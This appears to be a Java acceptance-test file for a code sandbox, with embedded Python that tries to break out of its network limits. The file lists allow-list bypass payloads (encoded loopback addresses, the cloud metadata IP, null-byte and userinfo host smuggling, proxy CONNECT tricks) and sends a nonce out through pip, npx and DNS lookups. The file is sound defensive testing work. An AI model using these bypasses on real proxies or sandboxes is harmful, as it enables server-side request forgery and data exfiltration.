package io.github.e2bmcp.acceptance.attacks;

import io.github.e2bmcp.sandbox.EndedBy;
import io.github.e2bmcp.testkit.attack.Attack;
import io.github.e2bmcp.testkit.attack.Attack.Group;
import io.github.e2bmcp.testkit.attack.Finding;
import java.io.IOException;
import java.util.List;

/** A51, A53 and A79: out by what is meant for something else. */
final class EgressAttacks {

  private EgressAttacks() {}

  static List<Attack> all() {
    return List.of(
        attack("A51", "around an allow-list", Group.NETWORK, EgressAttacks::list),
        attack("A53", "out by the package tools", Group.NETWORK, EgressAttacks::tools),
        attack("A79", "downloads while it runs", Group.PACKAGES, EgressAttacks::downloads));
  }

  private static Attack attack(String id, String name, Group group, ServerTrial trial) {
    return new Attack(id, name, group, EndedBy.EXIT, trial);
  }

  /** Every trick that a proxy with a list was ever deceived by, and the way around the proxy. */
  private static Finding list(ServerStage stage) throws IOException {
    stage.set("SANDBOX_NETWORK", "allowed.example");
    Answer answer =
        stage.python(
            """
            import os, socket, urllib.parse
            nonce, port = '%s', %d
            targets = ['127.0.0.1', 'localhost', 'LOCALHOST.', '127.1', '2130706433', '0x7f000001',
                       '[::1]', '[::ffff:127.0.0.1]', '[64:ff9b::7f00:1]', '169.254.169.254', '10.0.0.1',
                       'allowed.example@127.0.0.1', '127.0.0.1#allowed.example', 'allowed.example\\0.local',
                       '127.0.0.1%%00allowed.example', 'allowed.example.', 'xn--llowed-9ta.example']
            proxy = next((os.environ[n] for n in ('HTTP_PROXY', 'http_proxy', 'HTTPS_PROXY')
                          if os.environ.get(n)), '')
            def talk(host, number, *lines):
                s = socket.create_connection((host, number), timeout=3)
                try:
                    for line in lines:
                        s.sendall(line.encode('latin-1', 'replace'))
                        answer = s.recv(200)
                    return answer
                finally:
                    s.close()
            tried = 0
            for target in targets:
                where = '%%s:%%d' %% (target, port)
                ways = []
                if proxy:
                    parts = urllib.parse.urlsplit(proxy)
                    at = (parts.hostname, parts.port)
                    ways.append((*at, 'CONNECT %%s HTTP/1.1\\r\\nHost: allowed.example:443\\r\\n\\r\\n' %% where, nonce))
                    ways.append((*at, 'GET http://%%s/%%s HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n' %% (where, nonce)))
                ways.append((target.strip('[]'), port, nonce))
                for way in ways:
                    tried += 1
                    try:
                        talk(*way)
                    except (OSError, ValueError):
                        pass
            print('held:', tried, 'ways tried', 'with a proxy' if proxy else 'without a proxy')
            """
                .formatted(stage.nonce(), stage.field().port()));
    return received(stage, answer);
  }

  private static Finding tools(ServerStage stage) throws IOException {
    String url = "http://127.0.0.1:" + stage.field().port() + "/";
    Answer answer =
        stage.python(
            """
            import socket, subprocess, sys
            url, nonce = '%s', '%s'
            done = subprocess.run([sys.executable, '-m', 'pip', 'install', '--retries', '0', '--timeout', '2',
                                   '--index-url', url, '--target', '/tmp/never', nonce], capture_output=True)
            try:
                socket.getaddrinfo(nonce + '.invalid', 80)
            except OSError:
                pass
            print('held: pip ended with', done.returncode)
            """
                .formatted(url, stage.nonce()));
    return received(stage, answer);
  }

  private static Finding downloads(ServerStage stage) throws IOException {
    String url = "http://127.0.0.1:" + stage.field().port() + "/";
    Answer answer =
        stage.python(
            """
            import subprocess, sys, urllib.request
            url, nonce = '%s', '%s'
            pip = [sys.executable, '-m', 'pip', 'download', '--retries', '0', '--timeout', '2']
            for command in (pip + ['--index-url', url, nonce],
                            ['npx', '--yes', '--registry', url, nonce]):
                try:
                    subprocess.run(command, capture_output=True, timeout=2)
                except subprocess.TimeoutExpired:
                    pass
            try:
                urllib.request.urlopen(url + nonce, timeout=1)
            except Exception:
                pass
            print('held: nothing came back')
            """
                .formatted(url, stage.nonce()));
    return received(stage, answer);
  }

  private static Finding received(ServerStage stage, Answer answer) {
    return stage.finding(
        stage.field().received(stage.nonce()) || !answer.given(), answer, answer.brief());
  }
}
